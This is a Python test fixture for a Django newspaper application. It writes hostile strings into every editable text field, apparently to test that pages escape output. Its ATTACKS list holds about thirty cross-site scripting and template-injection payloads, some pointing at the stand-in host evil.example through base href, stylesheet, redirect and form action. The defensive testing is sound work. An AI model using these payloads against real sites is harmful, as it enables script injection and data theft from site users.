"""A newspaper in which every text that somebody at the desk can write is an attack.

Words of articles come through the door, which validates nothing that a form would; all other words are written
past forms and models into the database.
"""

import re
from html import escape
from itertools import cycle

from django.contrib import admin
from django.db import connection, models, transaction
from django.utils import timezone

from activity.models import Entry
from ads.models import Ad, Notice, NoticeText, Place, Snippet
from articles import actions
from articles.admin.verbs import ASKING
from articles.models import Address, Article, AuthorLink, Revision, StyleRule
from jobs.models import Message
from outlet import actions as outlet_actions
from outlet.models import MenuItem, MenuText, Outlet
from readers.models import Case, Report
from support.models import Delivery, MailingService, Subscriber, Topic, TopicState, Vote, WayText, WayToSupport
from support.newsletter import service as newsletter_service
from tests.body import hostile
from tests.cast import make_author, make_picture, make_section, make_user
from tests.desk.addresses import addresses, filled
from tests.public.test_pages import make_tag
from tests.support.asking import make_appeal
from tests.support.people import make_service, make_supporter, make_tier
from tests.support.topics import make_voter

# For text, for attributes in both quotes, for elements whose text is read in another way, for templates, for
# scripts that hold data, and for whoever decodes once too often.
ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" autofocus onfocus="alert(1)',
    "' autofocus onfocus='alert(1)",
    "x onpointerenter=alert(1) autofocus onfocus=alert(1)",
    "</title><script>alert(1)</script>",
    "</textarea><img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    "</style></template><img src=x onerror=alert(1)>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "javascript:alert(1)",
    "JaVaScRiPt&colon;alert(1)//",
    "data:text/html,<script>alert(1)</script>",
    "{{ 7|add:7 }}{% now 'Y' %}${alert(1)}<%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\u202e<script>alert(1)</script>\u2066\u200b\ufeff",
    "＜script＞alert(1)＜/script＞\u226e\u0338",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<base href=//evil.example><link rel=stylesheet href=//evil.example>",
    "<style>@import '//evil.example'</style><meta http-equiv=refresh content='0;//evil.example'>",
    "<details open ontoggle=alert(1)><form action=//evil.example><input autofocus onfocus=alert(1)>",
]
# Five to a text; without what no database stores.
STORABLE = [text.replace("\x00", "").encode("utf-8", "ignore").decode() for text in hostile.ATTACKS]
BODIES = ["\n".join(STORABLE[start : start + 5]) for start in range(0, len(STORABLE), 5)]

# What nobody can write at the desk, by the model's label.
MACHINES_OWN = {
    "staff.user": {"password"},
    "outlet.outlet": {"time_zone"},  # chosen from a list
    "activity.entry": {"verb", "subject_type"},
    "jobs.message": {"topic", "last_error"},
    # a provider is chosen from a list; each kind of ad has fields that the other has not
    "ads.ad": {"provider"},
    "ads.snippet": {"provider", "alt_text", "link"},
}
OTHERS = {"django_tasks_database.dbtaskresult"}  # written by the worker alone, open to nobody but a superuser
SHORTEST = len("<svg onload=alert(1)>")
LINK = "https://fine.example/"


def text_fields(model):
    """The fields into which somebody can write what they like."""
    own = MACHINES_OWN.get(model._meta.label_lower, set())
    for field in model._meta.concrete_fields:
        is_text = isinstance(field, (models.CharField, models.TextField)) and field.editable and not field.choices
        is_long = field.max_length is None or field.max_length >= SHORTEST
        if is_text and is_long and field.name not in own:
            yield field


def desk_models():
    """All that has a screen at the desk, or a part of one."""
    for model, screen in admin.site._registry.items():
        if model._meta.label_lower not in OTHERS:
            yield model
            yield from (inline.model for inline in screen.inlines)


def cut(field, attack):
    """As much of the attack as a field takes; a link has to begin as one, the database sees to that."""
    is_link = isinstance(field, models.URLField) or field.name == "address"
    if field.name == "attributes":
        return f"data-x={attack}"[:200]  # each line of them has to begin as one
    return ((LINK if is_link else "") + attack)[: field.max_length]


def poison(thing, attack, *, slugs=False):
    """Writes the attack into every text of a row but its slug, or into its slug alone."""
    fields = [field for field in text_fields(type(thing)) if isinstance(field, models.SlugField) == slugs]
    words = {field.name: cut(field, attack) for field in fields}
    if words:
        type(thing)._default_manager.filter(pk=thing.pk).update(**words)
        thing.refresh_from_db()


def body_of(attack, picture, story):
    """The attack in every place of a text where words can stand, as itself and as text."""
    shown = escape(attack)
    return f"""
      <p>{attack}</p><p>{shown} <a href="{LINK}?{shown}" lang="{shown}">{shown}</a></p><h2>{shown}</h2>
      <ul><li>{shown}</li></ul><table><tr><td>{shown}</td></tr></table><blockquote>{shown}</blockquote>
      <figure data-image="{picture.pk}" data-alt="{shown}"><figcaption>{shown}</figcaption></figure>
      <figure data-image="{picture.pk}"></figure>
      <aside data-story="{story.pk}" data-kicker="{shown}" data-headline="{shown}"></aside>
      <aside class="pullquote"><p>{shown}</p><cite>{shown}</cite></aside>
      <aside data-post="{LINK}{shown}"></aside>
    """


def words_of(attack):
    """All words of an article's form."""
    return {field.name: cut(field, attack) for field in text_fields(Article)}


def spared():
    """Fields that no attack has reached."""
    for model in dict.fromkeys(desk_models()):
        for field in text_fields(model):
            marks = models.Q()
            for mark in ("alert", "evil"):
                marks |= models.Q(**{f"{field.name}__contains": mark})
            if not model._default_manager.filter(marks).exists():
                yield f"{model._meta.label_lower}.{field.name}"


class Newsroom:
    """Sets of rows, one for each attack: a person, an author, a section, a tag, a picture and an article."""

    def __init__(self, boss, harmless):
        self.boss, self.harmless = boss, harmless
        self.sets, self.withdrawn, self.bodies = [], [], []
        self.headlines = {}  # by path, the words that must be read there as they are

    @transaction.atomic
    def fill(self):
        poison(Outlet.objects.get(), ATTACKS[4])
        poison(Outlet.objects.get().texts.get(), ATTACKS[4])
        self.sets = [self._set(number, attack) for number, attack in enumerate(ATTACKS)]
        self.withdrawn = [self._withdrawn(number, attack) for number, attack in enumerate(ATTACKS[::3])]
        self.bodies = [self._with_body(number, body) for number, body in enumerate(BODIES)]
        for number, attack in enumerate(ATTACKS[1::3]):
            self._in_addresses(number, attack)
        self.pages = [self._page(number, attack) for number, attack in enumerate(ATTACKS[::4])]
        self.supporter = make_voter(ATTACKS[1][:120], email="lida@home.example")
        for number, attack in enumerate(ATTACKS):
            poison(StyleRule.objects.create(language="en", pattern=f"word {number}"), attack)
            actions.add_legal_note(self.sets[number]["article"], by=self.boss, text=attack)
            self.sets[number]["case"] = self._case(number, attack)
            self.sets[number] |= self._newsletter(number, attack)
            self.sets[number] |= self._supporter(number, attack)
            self.sets[number]["topic"] = self._topic(number, attack)
            self._ads(self.sets[number], attack)
        self._support()
        poison(NoticeText.objects.create(notice=Notice.objects.create(), language="en"), ATTACKS[4])

    def public(self, sets):
        """Paths of the pages that show these sets, and of everything that is not part of a set."""
        owners = [(name, row[name].pk) for row in sets for name in ("section", "author", "tag", "article")]
        owners += [("article", article.pk) for article in (self.harmless, *self.withdrawn, *self.bodies)]
        paths = [f"/page-{number}/" for number, _page in enumerate(self.pages)]
        return [
            "/",
            "/uk/",
            "/latest/",
            "/help/",
            "/newsletter/",
            "/supporters/",
            *paths,
            "/next/",
            *(row["topic"].path for row in sets),
            *(Address.objects.get(**{owner: number}).path for owner, number in owners),
        ]

    def at_desk(self, *, one_in):
        """Paths of the desk's addresses, each with one in so many of the sets, another one for each address.

        An export is a file and no page.
        """
        verbs = cycle(ASKING)
        open_to_somebody = (
            pair for pair in addresses() if pair[0] and not re.search("logout|_delete$|_export$|dbtaskresult", pair[0])
        )
        for place, (name, route) in enumerate(open_to_somebody):
            for row in self.sets[place % one_in :: one_in] if "<" in route else self.sets[:1]:
                yield filled(route, **self._arguments(name, row) | {"verb": next(verbs)})

    def _arguments(self, name, row):
        """What stands in an address of the desk that is about this set."""
        article = row["article"]
        about = {"outlet": Outlet.objects.get(), "entry": Entry.objects.about(article).filter(verb="send_back").get()}
        about |= {"pagetext": self.pages[0], "menuitem": MenuItem.objects.first()}
        about |= {"notice": Notice.objects.first()}
        about |= row | {"message": Message.objects.last(), "story": article}
        thing = next((about[word] for word in reversed(name.split("_")) if word in about), article)
        edition = article.editions.get().pk
        return {key: str(thing.pk) for key in ("object_id", "id", "pk")} | {"edition": str(edition), "number": "1"}

    def _set(self, number, attack):
        """Rows by the name of their model."""
        user = make_user(f"person-{number}", "reporter")
        picture = make_picture((number * 8, 90, 120), size=(64, 64))
        section = make_section(slug=f"section-{number}")
        author = make_author(slug=f"author-{number}", user=user)
        link = AuthorLink.objects.create(author=author, label="x", url=LINK)
        tag = make_tag(f"tag-{number}")
        author.picture = picture
        author.save()
        for thing in (section.texts.get(), author, author.texts.get(), link, tag, tag.texts.get(), user):
            poison(thing, attack)
        for thing in (picture, picture.texts.get()):
            poison(thing, attack)
        article = self._article(number, attack, user, picture, section, author, tag)
        appeal = make_appeal(f"appeal-{number}", picture=picture, sections=[section])
        way = WayToSupport.objects.create(value="x")
        for thing in (appeal, way, WayText.objects.create(way=way, language="en", label="x")):
            poison(thing, attack)
        return {
            "user": user, "image": picture, "section": section, "author": author, "tag": tag, "article": article,
            "appeal": appeal, "waytosupport": way,
        }  # fmt: skip

    def _article(self, number, attack, user, picture, section, author, tag):
        """With the attack in every word; sent back once, and published."""
        article = Article(language="en")
        fields = words_of(attack) | {"body": body_of(attack, picture, self.harmless), "slug": f"story-{number}"}
        changes = {
            "fields": fields
            | {"kind": ("report", "sponsored")[number % 2], "section": section.pk, "lead_image": picture.pk},
            "bylines": [{"author": author.pk, "role": role, "text": attack[:120]} for role in ("writer", "editor")],
            "tags": [tag.pk],
            "related": [
                {"target": self.harmless.pk, "url": "", "kicker": attack[:80], "headline": ""},
                {"target": None, "url": LINK + attack, "kicker": attack[:80], "headline": attack},
            ],
        }
        actions.save(article, by=user, changes=changes, note=attack)
        actions.submit(article, by=user)
        actions.send_back(article, by=self.boss, note=attack)
        self.headlines[self._publish(article, by=user).path] = attack
        return article

    def _publish(self, article, *, by):
        actions.submit(article, by=by)
        actions.approve(article, by=self.boss)
        return actions.publish(article, by=self.boss, override="The checks see through it, and a check is no wall.")

    def change(self, article):
        """Another attack in every word of the article, saved by somebody else."""
        attack = ATTACKS[1 if article.headline != ATTACKS[1] else 2]
        actions.save(article, by=self.boss, changes={"fields": words_of(attack) | {"slug": article.slug}})

    def _like(self, article, **fields):
        """Another article with the same words but for these."""
        snapshot = article.revisions.last().snapshot
        other = Article(language="en")
        actions.save(other, by=self.boss, changes=snapshot | {"fields": snapshot["fields"] | fields})
        return other

    def _withdrawn(self, number, attack):
        """A story with the attack in its notice and in the reason."""
        article = self._like(self.harmless, headline=attack, slug=f"withdrawn-{number}", body="<p>x</p>")
        self._publish(article, by=self.boss)
        withdraw = actions.retract if number % 2 else actions.take_down
        withdraw(article, by=self.boss, reason=attack, words=attack)
        return article

    def _with_body(self, number, body):
        """A story whose body was written past every cleaning into the working copy and its revision."""
        article = self._like(self.harmless, headline=f"Body {number}", slug=f"body-{number}")
        body = re.sub(r"data-image=('?)[12]", rf"data-image=\g<1>{self.harmless.lead_image_id}", body)
        body = "<p>Words.</p>" + re.sub(r"data-story=1", f"data-story={self.harmless.pk}", body)
        revision = article.revisions.get()
        revision.snapshot["fields"]["body"] = body
        Revision.objects.filter(pk=revision.pk).update(snapshot=revision.snapshot)
        with connection.cursor() as cursor:
            cursor.execute("UPDATE articles_article SET body = %s WHERE id = %s", [body, article.pk])
        self._publish(article, by=self.boss)
        return article

    def _in_addresses(self, number, attack):
        """Things whose own pages cannot be reached, but which are linked from one that can."""
        name = f"other-{number}"
        section, author, tag = make_section(slug=name), make_author(slug=name), make_tag(name)
        for thing in (section.texts.get(), author.texts.get(), tag, tag.texts.get()):
            poison(thing, attack, slugs=True)
        article = self._like(self.harmless, headline=name, section=section.pk)
        changes = {"bylines": [{"author": author.pk, "role": "writer", "text": ""}], "tags": [tag.pk]}
        actions.save(article, by=self.boss, changes=changes | {"fields": {"slug": attack[:80]}})
        self._publish(article, by=self.boss)

    def _case(self, number, attack):
        """What a reader reported, with the attack in the words and in what was said of them."""
        article = self.sets[number]["article"]
        case = Case.objects.create(article=article, edition=article.editions.get(), start=number, exact="x", count=1)
        report = Report.objects.create(case=case, language="en")
        poison(case, attack)
        poison(report, attack)
        return case

    def _support(self):
        """The page on which all ways to support stand."""
        page = outlet_actions.begin("support", by=self.boss, language="en")
        outlet_actions.save(page, by=self.boss, title="Support", slug="help", body="<p>Words.</p>")
        outlet_actions.publish(page, by=self.boss)

    def _newsletter(self, number, attack):
        """Somebody who gets it, and a service that sends it."""
        subscriber = Subscriber.objects.create(email=f"{number}@home.example", state="confirmed")
        service = MailingService.objects.create(name="x", address=LINK)
        poison(subscriber, attack)
        poison(service, attack)
        newsletter_service.test(service)
        return {"subscriber": subscriber, "mailingservice": service}

    def _supporter(self, number, attack):
        """A supporter who stands on the page of thanks, a service and what it told; others have it in their keys."""
        tier = make_tier(f"tier-{number}")
        supporter = make_supporter(email=f"p{number}@home.example", tier=tier, is_named=True)
        service = make_service(key=f"service-{number}", default_tier=tier, tiers=[("x", tier)])
        delivery = Delivery.objects.create(service=service, digest="x", outcome="begun", supporter=supporter)
        others = make_tier(f"other-{number}"), make_service(key=f"other-{number}", default_tier=tier)
        for thing in (tier.texts.get(), supporter, service, service.tiers.get(), delivery):
            poison(thing, attack)
        for thing in others:
            poison(thing, attack, slugs=True)
        return {"tier": tier, "supporter": supporter, "service": service, "delivery": delivery}

    def _topic(self, number, attack):
        """What a supporter asks for; of every second one an article came, the others were declined."""
        fields = {"state": TopicState.DECLINED, "reason": attack}
        if number % 2:
            fields = {"state": TopicState.REPORTED, "article": self.sets[number]["article"]}
        now = timezone.now()
        topic = Topic.objects.create(title="x", question="x", public_since=now, decided_at=now, **fields)
        poison(topic, attack)
        Vote.objects.create(topic=topic, supporter=self.supporter)
        return topic

    def _ads(self, row, attack):
        """In stories of this section, and on its page: an own ad and a provider's snippet."""
        common = {"advertiser": "x", "language": "en", "paragraph": 1}
        parts = {"provider": "acme", "script": LINK, "frame": LINK, "element": "ins"}
        for place, other in ((Place.END, Place.TEXT), (Place.TOP, Place.BOTTOM)):
            ad = Ad.objects.create(**common, place=place, image=row["image"], link=LINK)
            snippet = Snippet.objects.create(**common, place=other, **parts)
            row |= {"ad": ad, "snippet": snippet}
            for thing in (ad, snippet):
                thing.sections.set([row["section"]])
                poison(thing, attack)

    def _page(self, number, attack):
        """A standing page, and beside it a line of a menu; a second page has the attack in its address."""
        page, other = (outlet_actions.begin("other", by=self.boss, language="en") for _time in range(2))
        body = f"<p>{escape(attack)}</p>{attack}"
        outlet_actions.save(page, by=self.boss, title=attack, slug=f"page-{number}", body=body, note=attack)
        outlet_actions.publish(page, by=self.boss)
        poison(other, attack, slugs=True)
        poison(MenuText.objects.create(item=MenuItem.objects.create(), language="en", address="/"), attack)
        return page
